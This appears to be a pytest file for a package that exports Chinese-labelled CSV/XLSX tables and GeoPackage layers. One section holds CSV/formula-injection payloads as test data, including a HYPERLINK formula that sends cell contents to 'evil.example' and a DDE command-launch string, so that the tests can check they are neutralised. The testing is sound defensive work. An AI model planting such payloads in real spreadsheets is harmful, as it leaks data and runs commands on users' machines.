"""CSV/XLSX with Chinese headers for Excel; GeoPackage layers for QGIS."""

from __future__ import annotations

from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely.geometry import Point

from svcov.config import DemandGroup, FacilityAttribute
from svcov.errors import OutputError
from svcov.outputs.tables import column_kinds, config_labels, label_columns, layer_aliases, write_layers, write_table

#: Headers of the columns a configuration adds come from it (the type file's attributes, the population groups).
LABELS = config_labels([FacilityAttribute("has_nursery_class", "flag", "开设托班"),
                        FacilityAttribute("capacity", "number", "托位数")], [DemandGroup("children_0_3", "0-3 岁人口")])


def _frame():
    return pd.DataFrame({"jiezhen_name": ["岳阳街道", "方松街道"], "children_0_3": [1234.5678, 2.0],
                         "has_nursery_class": pd.array([True, pd.NA], dtype="boolean"),
                         "capacity": pd.array([30, pd.NA], dtype="Int64")})


def test_csv_is_utf8_with_bom_and_chinese_headers(tmp_path):
    written = write_table(_frame(), tmp_path / "t", labels={**LABELS, "children_0_3": "0-3岁人口(估算)"},
                          counts=("children_0_3",), float_digits=1)
    assert [p.name for p in written] == ["t.csv", "t.xlsx"]
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == "街镇,0-3岁人口(估算),开设托班,托位数"
    assert text.splitlines()[1] == "岳阳街道,1235,是,30"            # a headcount is a whole number


def test_xlsx_has_headers_and_notes_sheet(tmp_path):
    from openpyxl import load_workbook

    write_table(_frame(), tmp_path / "t", labels=LABELS, sheet_name="汇总", notes=["注: 人口为估算。"],
                formats=("xlsx",))
    book = load_workbook(tmp_path / "t.xlsx")
    assert book.sheetnames == ["汇总", "说明"]
    assert [c.value for c in book["汇总"][1]] == ["街镇", "0-3岁人口", "开设托班", "托位数"]
    assert book["说明"]["A1"].value == "注: 人口为估算。"
    assert not (tmp_path / "t.csv").exists()


def test_label_columns_keeps_unknown_names():
    assert list(label_columns(pd.DataFrame(columns=["name", "whatever", 2023])).columns) == ["名称", "whatever",
                                                                                              "2023年"]


def _coverage_like():
    return pd.DataFrame({"jiezhen_name": ["岳阳街道", "方松街道", "全区"], "threshold_min": [15, 15, 15],
                         "pop": [1429.312653795147, 6100.2, 7529.5], "pop_covered": [0.4, 5524.0, 5524.4],
                         "share_covered": [0.00028, 0.90557, 0.7337], "mean_time_min": [44.51, 9.2, 12.0],
                         "children_0_3": [1.6, 2.4, 4.0], "open_share": [0.5, 0.25, 1.0],
                         "note": [None, None, None], "capacity_per_person_2sfca": [0.1234, np.nan, 0.05]})


def test_xlsx_shares_have_a_percent_format_and_counts_are_whole(tmp_path):
    from openpyxl import load_workbook

    write_table(_coverage_like(), tmp_path / "c", labels={"children_0_3": "0-3岁儿童", "open_share": "开放比例",
                                                          "share_covered": "覆盖率", "pop": "0-3岁人口"},
                counts=("children_0_3",), float_digits=4)
    sheet = load_workbook(tmp_path / "c.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    assert "说明" not in header and "note" not in header                  # the empty column is left out ...
    notes = [c.value for c in load_workbook(tmp_path / "c.xlsx")["说明"]["A"]]
    assert any("全部为空" in n and "note" in n for n in notes)              # ... and named
    col = {h: i + 1 for i, h in enumerate(header)}
    for r in range(2, 5):
        share = sheet.cell(row=r, column=col["覆盖率"])
        assert isinstance(share.value, float) and 0 <= share.value <= 1 and share.number_format == "0.0%"
        assert sheet.cell(row=r, column=col["开放比例"]).number_format == "0.0%"
        for name in ("0-3岁人口", "0-3岁儿童"):
            count = sheet.cell(row=r, column=col[name])
            assert isinstance(count.value, int) and count.number_format == "#,##0", (name, count.value)
        assert sheet.cell(row=r, column=col["mean_time_min"]).number_format == "0.0"
        assert sheet.cell(row=r, column=col["threshold_min"]).number_format == "General"     # an integer stays
    assert sheet.cell(row=2, column=col["0-3岁人口"]).value == 1429
    assert sheet.cell(row=2, column=col["覆盖率"]).value == pytest.approx(0.0003)
    assert sheet.cell(row=2, column=col["capacity_per_person_2sfca"]).number_format == "0.00"
    assert column_kinds(_coverage_like())["pop"] == column_kinds(_coverage_like())["pop_covered"] == "count"
    assert column_kinds(pd.DataFrame({"children_0_3_per_km2": [1.5], "year": [2023], "name": ["甲"]})) == {
        "children_0_3_per_km2": "ratio"}


def test_geopackage_layers_round_trip(tmp_path):
    a = gpd.GeoDataFrame({"name": ["甲"], "flag": pd.array([True], dtype="boolean")}, geometry=[Point(1, 2)],
                         crs="EPSG:32651")
    path = write_layers(tmp_path / "l.gpkg", {"a": a, "empty": a.iloc[0:0]})
    import pyogrio

    assert [name for name, _ in pyogrio.list_layers(path)] == ["a"]
    back = gpd.read_file(path, layer="a")
    assert back["name"].tolist() == ["甲"] and back.crs.to_epsg() == 32651


# --- text is text, never a formula (issue 10) ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _hostile():
    return pd.DataFrame({"name": FORMULAS + ["-20", "岳阳街道"], "children_0_3": [1.5, -2.0, 3, 4, 5, 6, 7, 8, 9],
                         "capacity": pd.array([1, 2, 3, 4, 5, 6, 7, 8, pd.NA], dtype="Int64")})


def test_xlsx_stores_text_as_text_and_numbers_as_numbers(tmp_path):
    from openpyxl import load_workbook

    write_table(_hostile().rename(columns={"children_0_3": "=1+2"}), tmp_path / "t", labels=LABELS,
                notes=["=HYPERLINK(\"x\")"], formats=("xlsx",))
    book = load_workbook(tmp_path / "t.xlsx")
    sheet = book.worksheets[0]
    header = [(c.value, c.data_type) for c in sheet[1]]
    assert header == [("名称", "s"), ("=1+2", "s"), ("托位数", "s")]
    names = [(c.value, c.data_type) for c in sheet["A"][1:]]
    assert names == [(text, "s") for text in FORMULAS + ["-20", "岳阳街道"]]       # exactly as written, as text
    assert [c.data_type for c in sheet["B"][1:]] == ["n"] * 9                      # numbers stay numbers
    assert [c.value for c in sheet["C"][1:]] == [1, 2, 3, 4, 5, 6, 7, 8, None]
    assert (book["说明"]["A1"].value, book["说明"]["A1"].data_type) == ("=HYPERLINK(\"x\")", "s")
    formulas = [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_csv_neutralises_a_leading_formula_character(tmp_path):
    import csv

    write_table(_hostile(), tmp_path / "t", labels=LABELS, formats=("csv",))
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["名称", "0-3岁人口", "托位数"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in FORMULAS] + ["-20", "岳阳街道"]
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", "6.0", "7.0", "8.0", "9.0"]


def test_characters_an_xlsx_cannot_hold_are_replaced_not_fatal(tmp_path):
    from openpyxl import load_workbook

    write_table(pd.DataFrame({"name": ["托育\x0b点\x01"]}), tmp_path / "t")
    assert load_workbook(tmp_path / "t.xlsx").worksheets[0]["A2"].value == "托育\ufffd点\ufffd"
    assert "托育\x0b点\x01" in (tmp_path / "t.csv").read_text(encoding="utf-8-sig")


# --- a full disk is a message (issue 10) ----------------------------------------------------------------------


def _layer():
    return gpd.GeoDataFrame({"name": ["甲"]}, geometry=[Point(0, 0)], crs="EPSG:32651")


def test_a_geopackage_gdal_cannot_commit_on_a_full_disk_is_an_output_error(tmp_path, monkeypatch):
    import shutil
    from collections import namedtuple

    import pyogrio.errors

    def fail(self, path, **kwargs):
        Path(path).write_bytes(b"half")
        Path(str(path) + "-journal").write_bytes(b"journal")
        raise pyogrio.errors.DataSourceError("Failed to commit transaction")

    monkeypatch.setattr(gpd.GeoDataFrame, "to_file", fail)
    usage = namedtuple("usage", "total used free")
    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage(10e9, 10e9 - 2e6, 2e6))
    with pytest.raises(OutputError, match=r"磁盘空间不足 \(只剩 2.0 MB\)"):
        write_layers(tmp_path / "layers.gpkg", {"a": _layer()})
    assert list(tmp_path.iterdir()) == []                      # no half file, no journal left
    monkeypatch.setattr(shutil, "disk_usage", lambda path: usage(10e9, 1e9, 9e9))
    with pytest.raises(OutputError, match="无法写入 GeoPackage .*Failed to commit transaction"):
        write_layers(tmp_path / "layers.gpkg", {"a": _layer()})


def test_a_table_on_a_full_disk_is_an_output_error(tmp_path, monkeypatch):
    import errno

    def full(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(OutputError, match="t.xlsx: 磁盘空间不足"):
        write_table(_frame(), tmp_path / "t", formats=("xlsx",))
    assert list(tmp_path.iterdir()) == []
@pytest.mark.parametrize("crs", ["EPSG:4326", "EPSG:4490", "EPSG:4549"])
def test_geopackage_layers_in_the_output_crs_with_chinese_aliases(tmp_path, crs):
    a = gpd.GeoDataFrame({"jiezhen_name": ["方松街道"], "pop_0_3": [12.5], "extra": [1]},
                         geometry=[Point(332000, 3432000)], crs="EPSG:32651")
    b = a.assign(name="乙")
    path = write_layers(tmp_path / "l.gpkg", {"a": a, "b": b}, crs=crs, labels={"pop_0_3": "0-3岁人口"})
    for layer in ("a", "b"):
        back = gpd.read_file(path, layer=layer)
        assert back.crs == gpd.GeoSeries([], crs=crs).crs
        assert back.geometry.to_crs("EPSG:32651").iloc[0].distance(Point(332000, 3432000)) < 0.01
        assert back.columns.tolist()[:3] == ["jiezhen_name", "pop_0_3", "extra"]       # names stay for analysts
    assert layer_aliases(path, "a") == {"jiezhen_name": "街镇", "pop_0_3": "0-3岁人口"}
    assert layer_aliases(path, "b")["name"] == "名称"
    plain = write_layers(tmp_path / "plain.gpkg", {"c": a[["extra", "geometry"]]})
    assert layer_aliases(plain, "c") == {}                          # nothing to alias: no schema table at all


def test_whole_minutes_stay_integers_and_year_headers_are_chinese(tmp_path):
    from openpyxl import load_workbook

    frame = pd.DataFrame({"threshold_min": [15.0, 10.0], "mean_time_min": [12.346, 3.0], "2021": ["a", "b"]})
    write_table(frame, tmp_path / "m")
    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
    assert [c.value for c in sheet[1]] == ["threshold_min", "mean_time_min", "2021年"]
    assert sheet["A2"].value == 15 and isinstance(sheet["A2"].value, int) and sheet["A2"].number_format == "General"
    assert sheet["B2"].value == pytest.approx(12.35) and sheet["B2"].number_format == "0.0"
    assert (tmp_path / "m.csv").read_text(encoding="utf-8-sig").splitlines()[1] == "15,12.35,a"
